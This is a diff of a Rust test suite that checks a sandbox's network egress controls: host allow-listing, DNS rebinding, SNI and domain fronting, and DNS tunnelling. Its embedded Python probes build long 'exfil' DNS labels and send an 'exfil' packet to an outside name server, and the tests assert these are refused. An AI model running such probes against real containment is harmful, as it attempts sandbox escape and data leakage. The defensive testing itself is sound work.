@@ -4,10 +4,10 @@ use super::*;
 use crate::sealed::TLS;
 
 #[track_caller]
-pub fn row_19_a_host_that_is_not_allowed(deploy: &Deploy<'_>, sandbox: &str) {
+pub fn row_19_a_host_that_is_not_allowed(place: &dyn Inside) {
+    let (deploy, sandbox) = (place.deploy(), place.sandbox());
     refused(
-        deploy,
-        sandbox,
+        place,
         r#"show(both("example.com", "example.com:443", "pypi.org:443") | {
     "name": attempt(lambda: address("example.com")), "placed": placed("github.com", "pypi.org", get("pypi.org"))})"#,
     );
@@ -44,10 +44,10 @@ pub fn rows_20_and_21_addresses_in_every_spelling() -> String {
 }
 
 #[track_caller]
-pub fn row_22_case_and_a_trailing_dot(deploy: &Deploy<'_>, sandbox: &str) {
+pub fn row_22_case_and_a_trailing_dot(place: &dyn Inside) {
+    let sandbox = place.sandbox();
     let answer = tell(
-        deploy,
-        sandbox,
+        place,
         r#"show({"good": [connect(t) for t in ("github.com:443", "GitHub.COM:443", "github.com.:443", "GITHUB.com.:443")],
     "bad": [connect(t) for t in ("example.com:443", "EXAMPLE.com:443", "example.com.:443", "github.com..:443")],
     "addresses": sorted({address(name) for name in ("github.com", "GitHub.com", "GITHUB.COM.")})})"#,
@@ -79,15 +79,14 @@ pub fn rows_23_to_25_names_that_pretend() -> String {
 }
 
 #[track_caller]
-pub fn row_26_a_name_that_is_rebound_is_dialled_at_the_address_that_was_checked(deploy: &Deploy<'_>, sandbox: &str) {
+pub fn row_26_a_name_that_is_rebound_is_dialled_at_the_address_that_was_checked(place: &dyn Inside) {
     let answer = tell(
-        deploy,
-        sandbox,
+        place,
         r#"show({"first": through("rebind.github.com", "rebind.github.com", get("rebind.github.com")),
     "later": both("rebind.github.com:443", "rebind.github.com") | {"placed": placed("rebind.github.com", "rebind.github.com")}})"#,
     );
     assert_eq!(answer["first"], "ok: HTTP/1.1 200 OK", "the first answer is public: {answer}");
-    all_refused(sandbox, &answer["later"]);
+    all_refused(place.sandbox(), &answer["later"]);
 }
 
 pub fn rows_27_and_28_names_that_are_not_public() -> String {
@@ -99,7 +98,8 @@ show(both(*hosts, *[f"{host}:443" for host in hosts]) | {f"placed {host}": place
 }
 
 #[track_caller]
-pub fn rows_27_and_28_are_on_the_denied_log(deploy: &Deploy<'_>, sandbox: &str) {
+pub fn rows_27_and_28_are_on_the_denied_log(place: &dyn Inside) {
+    let (deploy, sandbox) = (place.deploy(), place.sandbox());
     let denied = deploy.denied();
     let logged = |host: &str| {
         denied
@@ -109,29 +109,41 @@ pub fn rows_27_and_28_are_on_the_denied_log(deploy: &Deploy<'_>, sandbox: &str) 
     assert!(logged("alias.github.com") && logged("shared.github.com"), "{sandbox}: {denied:?}");
 }
 
-pub fn row_29_connect_differs_from_sni() -> String {
-    r#"show({f"{sni} in {target}": through(target, sni) for target in ("github.com", "api.github.com")
-    for sni in ("example.com", "www.github.com", "gist.github.com", "internal.github.com", "github.com.evil", "203.0.113.10")})"#
-    .to_owned()
+/// Other names than that of the tunnel, each in each.
+pub fn row_29_connect_differs_from_sni(tunnels: &[&str], names: &[&str]) -> String {
+    let (tunnels, names) = (json!(tunnels).to_string(), json!(names).to_string());
+    format!(
+        "show({{f'{{sni}} in {{target}}': through(target, sni) for target in json.loads({tunnels:?}) for sni in json.loads({names:?})}})"
+    )
 }
 
+/// Names of real sites that are told in the tunnels of others.
+pub const SNI_IN_REAL_TUNNELS: [&str; 6] =
+    ["example.com", "www.github.com", "gist.github.com", "internal.github.com", "github.com.evil", "203.0.113.10"];
+
 #[track_caller]
-pub fn row_30_fronting_on_minted_connections(deploy: &Deploy<'_>, sandbox: &str) {
+pub fn row_30_fronting_on_minted_connections(place: &dyn Inside, own: &str, others: &[&str]) {
+    let sandbox = place.sandbox();
+    let others = json!(others).to_string();
     let answer = tell(
-        deploy,
-        sandbox,
-        r#"show([way("gist.github.com", "gist.github.com", get(host)) for way in (through, placed)
-    for host in ("github.com", "example.com", "internal.github.com", "gist.github.com:22")])"#,
+        place,
+        &format!(
+            r#"show([way("{own}", "{own}", get(host)) for way in (through, placed)
+    for host in (*json.loads({others:?}), "{own}:22")])"#
+        ),
     );
     let answers = answer.as_array().expect("answers");
     assert!(answers.iter().all(|one| one == "421" || one == "400"), "{sandbox}: {answer}");
     assert_eq!(answers[0], "421", "{sandbox}: {answer}");
 }
 
+/// Names that are asked for on a synthetic site's connection.
+pub const FRONTED: [&str; 3] = ["github.com", "example.com", "internal.github.com"];
+
 /// What is within the encryption of a live tunnel can't be seen; wherever the real site takes it, it went to that site's address.
 #[track_caller]
-pub fn row_30_fronting_in_a_live_tunnel_stays_at_its_address(deploy: &Deploy<'_>, sandbox: &str, internet: &Internet) {
-    let answer = tell(deploy, sandbox, r#"show(through("github.com", "github.com", get("example.com")))"#);
+pub fn row_30_fronting_in_a_live_tunnel_stays_at_its_address(place: &dyn Inside, internet: &Internet) {
+    let answer = tell(place, r#"show(through("github.com", "github.com", get("example.com")))"#);
     assert!(answer.as_str().is_some_and(|one| one.starts_with("ok")), "{answer}");
     assert_eq!(internet.requests_to("example.com").len(), 1, "it got to whoever is at github.com's address");
     assert!(internet.packets("dst host 203.0.113.20").is_empty(), "and not to example.com's");
@@ -154,13 +166,8 @@ show(wrong | {{"none through": through("github.com", None), "no TLS": silent(), 
     )
 }
 
-/// Long labels, and every type, below a name that may be reached: answered here, and never asked of the real name server.
-#[track_caller]
-pub fn row_39_a_question_alone_goes_nowhere(deploy: &Deploy<'_>, sandbox: &str) {
-    let answer = tell(
-        deploy,
-        sandbox,
-        r#"
+/// Asks the placed name server; gives code and number of answers.
+pub const QUESTION: &str = r#"
 def question(name, kind, over_tcp=False):
     labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
     message = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)
@@ -172,9 +179,20 @@ def question(name, kind, over_tcp=False):
     return [answer[3] & 15, struct.unpack(">H", answer[6:8])[0]]
 long = ".".join(f"exfil{n:02}-" + "a" * 50 for n in range(3))
 kinds = {"A": 1, "NS": 2, "CNAME": 5, "NULL": 10, "MX": 15, "TXT": 16, "AAAA": 28, "SRV": 33, "SVCB": 64, "HTTPS": 65, "ANY": 255}
-show({"below": {name: [question(f"{long}.github.com", kind), question(f"{long}.github.com", kind, True)] for name, kind in kinds.items()},
-      "beside": question(f"{long}.exfil.invalid", 1),
-      "elsewhere": attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"exfil", ("203.0.113.53", 53)))})"#,
+"#;
+
+/// Long labels, and every type, below a name that may be reached: answered here, and never asked of the real name server.
+#[track_caller]
+pub fn row_39_a_question_alone_goes_nowhere(place: &dyn Inside) {
+    let sandbox = place.sandbox();
+    let answer = tell(
+        place,
+        &format!(
+            r#"{QUESTION}
+show({{"below": {{name: [question(f"{{long}}.github.com", kind), question(f"{{long}}.github.com", kind, True)] for name, kind in kinds.items()}},
+      "beside": question(f"{{long}}.exfil.invalid", 1),
+      "elsewhere": attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"exfil", ("203.0.113.53", 53)))}})"#
+        ),
     );
     for (kind, answers) in answer["below"].as_object().expect("answers") {
         let records = usize::from(kind == "A");
